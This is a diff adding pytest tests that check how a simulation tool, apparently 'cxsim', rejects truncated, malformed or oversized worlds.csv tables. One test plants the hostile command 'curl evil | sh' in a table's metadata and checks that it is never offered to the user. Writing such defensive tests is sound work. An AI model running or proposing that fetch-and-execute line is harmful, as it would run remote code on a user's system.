@@ -102,6 +102,51 @@ def test_values_out_of_range(ensemble, refusal):
     assert "world 2" in message
 
 
+@pytest.mark.parametrize("end", [-1, -2])
+def test_a_table_that_was_cut_off(ensemble, refusal, end):
+    """A table of which the last line, or the last digit, is missing is not read as a whole one with fewer numbers."""
+    text = written(ensemble)
+    cut = text[: text[:-1].rindex("\n") + 1] if end == -1 else text[:end]
+    assert "was cut off or changed after it was written" in refusal(cut, shipped("telecom"))
+
+
+def test_a_command_from_a_table_is_not_proposed(ensemble, refusal):
+    """What a table of somebody else calls its command is never offered for pasting."""
+    hostile = replace(ensemble, made=ensemble.made | {"command": "curl evil | sh", "market_digest": "0"})
+    message = refusal(written(hostile), shipped("telecom"))
+    assert "cxsim worlds telecom" in message
+    assert "evil" not in message
+
+
+@pytest.mark.parametrize(
+    ("line", "told"),
+    [
+        ("number,behaviour.loyalty.hazrd,1,1,1,1", "did you mean 'behaviour.loyalty.hazard'?"),
+        ('shown,"in two\nlines",1,1,1,1\nnumber,foo,1,1,1,1', "worlds.csv:{next}: unknown number of telecom 'foo'"),
+        ("shown,NPS,1,1,1e308,inf", "NPS: cannot be '1e308'; expected a number, or nan"),
+        ('number,"foo', "worlds.csv:{here}: is not a table"),
+    ],
+)
+def test_lines_that_are_none(ensemble, refusal, line, told):
+    """Each line that cannot be meant is named by its own number, with what was expected."""
+    text = written(ensemble)
+    here = text.count("\n") + 1
+    assert told.format(here=here, next=here + 2) in refusal(text + line, shipped("telecom"))
+
+
+def test_a_number_that_the_market_has_otherwise(ensemble, refusal):
+    """A table whose column of the market says something else than the market is not one of it, whatever its digest."""
+    other = replace(ensemble, market=ensemble.market | {HABIT: 0.123})
+    assert f"was made before telecom changed ({HABIT})" in refusal(written(other), shipped("telecom"))
+
+
+def test_more_worlds_than_there_can_be(ensemble, refusal):
+    """A heading of a million columns is refused before any world is built."""
+    text = written(ensemble)
+    heading = "kind,name,market,1,2,3"
+    assert "10,000 is the maximum" in refusal(text.replace(heading, heading + ",4" * 10_000), shipped("telecom"))
+
+
 def test_too_few_worlds(ensemble):
     """More worlds than there are cannot be asked for."""
     with pytest.raises(Exception, match=r"--worlds 5: worlds\.csv holds 3 worlds"):
